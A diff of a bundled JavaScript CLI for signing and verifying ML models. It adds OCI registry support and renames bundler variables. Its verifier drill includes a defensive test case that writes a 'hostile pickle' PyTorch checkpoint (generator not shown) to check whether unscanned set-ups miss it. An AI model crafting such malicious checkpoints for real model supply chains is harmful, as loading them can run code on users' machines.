@@ -61023,9 +62660,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "hostile-pickle");
+          const m2 = path26.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path26.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -61035,16 +62672,16 @@ var init_attacks = __esm({
 });
 
 // src/drill/run.ts
-import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
-import os6 from "node:os";
-import path22 from "node:path";
+import { cp, mkdir as mkdir6, mkdtemp as mkdtemp3, rm as rm4 } from "node:fs/promises";
+import os8 from "node:os";
+import path27 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp3(path27.join(os8.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path22.join(tmp, "base-model");
+    const base2 = path27.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path22.join(tmp, "lineage-store");
-    await mkdir5(store);
+    const store = path27.join(tmp, "lineage-store");
+    await mkdir6(store);
     const defaultSetup = { storeDir: store };
     let baseline;
     if (opts.signer) {
@@ -61067,7 +62704,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path22.join(tmp, name2);
+        const dest = path27.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -61085,7 +62722,7 @@ async function runDrill(opts) {
       skipped: reports.filter((r) => r.outcome === "skipped").length
     };
   } finally {
-    await rm3(tmp, { recursive: true, force: true });
+    await rm4(tmp, { recursive: true, force: true });
   }
 }
 function skipReason(a, met, hasSigner) {
@@ -61133,7 +62770,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path23 from "node:path";
+import path28 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -61162,11 +62799,11 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path28.relative(path28.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
-  const [{ lineageStage: lineageStage2, openStore: openStore2 }, { policyStage: policyStage2 }, { formatsStages: formatsStages2 }, { verifyModel: verifyModel2 }] = await Promise.all([
+  const [{ lineageStage: lineageStage2, openStore: openStore3 }, { policyStage: policyStage2 }, { formatsStages: formatsStages2 }, { verifyModel: verifyModel2 }] = await Promise.all([
     Promise.resolve().then(() => (init_lineage(), lineage_exports)),
     Promise.resolve().then(() => (init_stage2(), stage_exports)),
     Promise.resolve().then(() => (init_formats(), formats_exports)),
@@ -61177,7 +62814,7 @@ async function drillVerifier(cfg) {
   if (policy) features.add("policy");
   if (policy?.formats && (policy.formats.scan || policy.formats.deny.length > 0)) features.add("scan");
   const stagesFor = async (setup) => {
-    const store = setup.storeDir !== void 0 ? await openStore2(setup.storeDir) : void 0;
+    const store = setup.storeDir !== void 0 ? await openStore3(setup.storeDir) : void 0;
     const drillRevoked = setup.revoked ?? [];
     const stages = [
       lineageStage2({
@@ -63204,7 +64841,7 @@ function createProgress(label, total, opts = {}) {
   const t0 = now();
   let last = t0;
   let shown = false;
-  let finished = false;
+  let finished2 = false;
   let lastDone = 0;
   const line = (done, t) => {
     const secs = Math.max(1e-3, (t - t0) / 1e3);
@@ -63220,7 +64857,7 @@ function createProgress(label, total, opts = {}) {
   };
   return {
     update(done) {
-      if (finished) return;
+      if (finished2) return;
       lastDone = done;
       const t = now();
       if (t - (shown ? last : t0) < (shown ? interval : firstAfter)) return;
@@ -63230,8 +64867,8 @@ function createProgress(label, total, opts = {}) {
 `);
     },
     finish() {
-      if (finished) return;
-      finished = true;
+      if (finished2) return;
+      finished2 = true;
       if (!shown) return;
       if (tty) {
         write("\r\x1B[2K");
@@ -63343,7 +64980,7 @@ var sign_keyless_exports = {};
 __export(sign_keyless_exports, {
   signKeyless: () => signKeyless
 });
-async function signKeyless(model, o, lineage) {
+async function signKeyless(model, o, lineage, source) {
   if (o.key) throw usage("BAD_OPTION", "--keyless and --key exclude each other");
   if (!o.version) throw usage("MISSING_OPTION", "sign needs --version SEMVER (e.g. --version 1.0.0)");
   const { keylessSigner: keylessSigner2, bundleIdentity: bundleIdentity2, keylessEndpoints: keylessEndpoints2 } = await Promise.resolve().then(() => (init_keyless(), keyless_exports));
@@ -63361,6 +64998,7 @@ async function signKeyless(model, o, lineage) {
   let identity;
   const r = await signModel2({
     model,
+    ...source ? { source } : {},
     version: o.version,
     ...lineage?.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
     ...lineage?.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
@@ -63398,11 +65036,12 @@ __export(sign_exports2, {
   register: () => register
 });
 function register(program2) {
-  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file or .tar/.tar.gz/.tgz archive").option("--key <file>", "private key (modelsign/cosign encrypted PEM, or plain PKCS#8/SEC1 PEM)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, or MODEL.sig for a file)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "keyless: RFC 3161 timestamp authority to also timestamp the signature").option("--staging", "keyless: use the Sigstore staging instance");
+  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file, .tar/.tar.gz/.tgz archive, or OCI artifact (oci://REGISTRY/REPO:TAG, oci:DIR[:TAG])").option("--key <file>", "private key (modelsign/cosign encrypted PEM, or plain PKCS#8/SEC1 PEM)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, MODEL.sig for a file; attached to an OCI artifact)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "keyless: RFC 3161 timestamp authority to also timestamp the signature").option("--staging", "keyless: use the Sigstore staging instance");
   addIgnoreOption(cmd);
   addSerializationOptions(cmd);
   addEngineOptions(cmd);
   addLineageSignOptions(cmd);
+  addRegistryOptions(cmd);
   cmd.addHelpText(
     "after",
     `
@@ -63413,6 +65052,8 @@ Examples:
   modelsign sign ./llama-ft --keyless --version 1.0.0            # in GitHub Actions (id-token: write)
   modelsign sign ./llama-ft --keyless --identity-token "$TOKEN" --version 1.0.0
 
+  modelsign sign oci://registry.example.com/acme/llm:1.0 --key release.key --version 1.0.0   # attached as a referrer
+
   modelsign sign ./llama-ft --key release.key --version 1.1.0 --parent ./llama/model.sig --record=manifests
   modelsign sign ./merged --key release.key --version 1.0.0 --parent a/model.sig --parent b/model.sig --relation merge
 
@@ -63420,7 +65061,8 @@ Exit codes: 0 signed; 1 a --parent signature is not trusted or broken, or (--key
 Rekor or the TSA failed; 2 usage error (bad flag, unreadable key, wrong passphrase, symlink or
 special file in the model, a parent with the same name and a version not lower than --version,
 a signature or store that cannot be written, a signature larger than verify reads, as with a
-tiny --shard-size). On exit 2 nothing was written.`
+tiny --shard-size; an OCI registry that cannot be reached or refuses the credentials). On exit
+2 nothing was written.`
   ).action(
     run(async (model, o) => {
       if (o.keyless && o.key) throw usage("BAD_OPTION", "--keyless and --key exclude each other");
@@ -63431,15 +65073,18 @@ tiny --shard-size). On exit 2 nothing was written.`
         const problem = licenseProblem2(o.license);
         if (problem) warn(problem);
       }
+      const source = isOciModel(model) ? await (await Promise.resolve().then(() => (init_source3(), source_exports))).openSource(model, { oci: { registry: registryOptions(o) } }) : void 0;
+      if (source) o.name ??= source.defaultName();
       const lineage = await prepareLineage(model, o);
       if (o.keyless) {
         const { signKeyless: signKeyless2 } = await Promise.resolve().then(() => (init_sign_keyless(), sign_keyless_exports));
-        return signKeyless2(model, o, lineage);
+        return signKeyless2(model, o, lineage, source);
       }
       const { signWithKey: sign2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
       const engine = engineFlags(o, "hashing");
       const r = await sign2({
         model,
+        ...source ? { source } : {},
         key: lineage.key ?? o.key,
         ...lineage.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
         ...lineage.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
@@ -63463,6 +65108,7 @@ var init_sign2 = __esm({
     init_report();
     init_progress();
     init_sign_lineage();
+    init_oci3();
   }
 });
 
@@ -63472,8 +65118,8 @@ init_errors();
 init_io();
 init_report();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
-import os7 from "node:os";
-import path24 from "node:path";
+import os9 from "node:os";
+import path29 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -63561,8 +65207,8 @@ Lineage and anti-rollback (exit 1 on a broken link, a rollback or a revoked dige
       minVersion = semver9.valid(f2.minVersion) ?? void 0;
       if (!minVersion) throw usage("BAD_OPTION", `--min-version must be a semantic version like 1.2.0 (got "${f2.minVersion}")`);
     }
-    const { lineageStage: lineageStage2, openStore: openStore2, readRevokedFile: readRevokedFile2 } = await Promise.resolve().then(() => (init_lineage(), lineage_exports));
-    const store = f2.lineage !== void 0 ? await openStore2(f2.lineage) : void 0;
+    const { lineageStage: lineageStage2, openStore: openStore3, readRevokedFile: readRevokedFile2 } = await Promise.resolve().then(() => (init_lineage(), lineage_exports));
+    const store = f2.lineage !== void 0 ? await openStore3(f2.lineage) : void 0;
     const revoked = f2.revoked !== void 0 ? await readRevokedFile2(f2.revoked) : void 0;
     return [
       lineageStage2({
@@ -63790,28 +65436,31 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path18 from "node:path";
-function str2(v2) {
+import path22 from "node:path";
+function where(p2) {
+  return p2.startsWith("oci:") ? p2 : path22.resolve(p2);
+}
+function str3(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path18.resolve(model),
-    signature: str2(flags.signature) ? path18.resolve(flags.signature) : null,
+    model: where(model),
+    signature: str3(flags.signature) ? path22.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path18.resolve(flags.policy) : null,
-    purpose: str2(flags.purpose)
+    policy: str3(flags.policy) ? path22.resolve(flags.policy) : null,
+    purpose: str3(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path18.resolve(r.signature),
+    signature: where(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -63893,6 +65542,43 @@ A Sigstore signature is never accepted without --identity or --identity-regexp (
   // A keyless bundle with no identity policy is refused by the pipeline itself (exit 2).
 };
 
+// src/cli/verify-oci.ts
+init_errors();
+init_io();
+init_oci3();
+var pulls = /* @__PURE__ */ new WeakMap();
+var ociPlugin = {
+  name: "oci",
+  addOptions(cmd) {
+    addRegistryOptions(cmd);
+    cmd.option("--pull-to <dir>", "oci:// models: download the signed files into DIR (new or empty), re-hashed as written; kept only when the model verifies");
+  },
+  async options(flags, opts) {
+    const pullTo = typeof flags.pullTo === "string" ? flags.pullTo : void 0;
+    if (!isOciModel(opts.model)) {
+      if (pullTo !== void 0) throw usage("BAD_OPTION", "--pull-to applies to oci:// and oci: models only");
+      return;
+    }
+    const { openSource: openSource2 } = await Promise.resolve().then(() => (init_source3(), source_exports));
+    const source = await openSource2(opts.model, { oci: { registry: registryOptions(flags), ...pullTo !== void 0 ? { pullTo } : {} } });
+    opts.source = source;
+    const pull = source.pull;
+    if (pull) pulls.set(flags, pull);
+  },
+  async after(flags, result) {
+    const pull = pulls.get(flags);
+    if (!pull) return;
+    pulls.delete(flags);
+    await pull.finish(result.verified, result.signature);
+    if (result.verified) info(`pulled the verified model into ${pull.dir}`);
+  },
+  async error(flags) {
+    const pull = pulls.get(flags);
+    pulls.delete(flags);
+    await pull?.finish(false);
+  }
+};
+
 // src/cli/verify-plugins.ts
 var verifyPlugins = [
   // envPlugin stays FIRST: its `prepare` fills flags from MODELSIGN_* before any other plugin reads them.
@@ -63902,6 +65588,9 @@ var verifyPlugins = [
   // lineage records the ancestors (extra.lineage) that the policy stage then judges.
   lineagePlugin,
   policyPlugin,
+  // oci opens oci:// models; its after-hook keeps or removes a --pull-to directory once the
+  // verdict is final (after lineage), before pod and audit report it.
+  ociPlugin,
   // pod and audit come LAST: their after-hooks report the final verdict (lineage's after-hook
   // can still turn a pass into a rollback failure when it records the state file under its lock).
   podPlugin,
@@ -64014,9 +65703,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path29.join(process.env.RUNNER_TEMP || os9.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path29.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
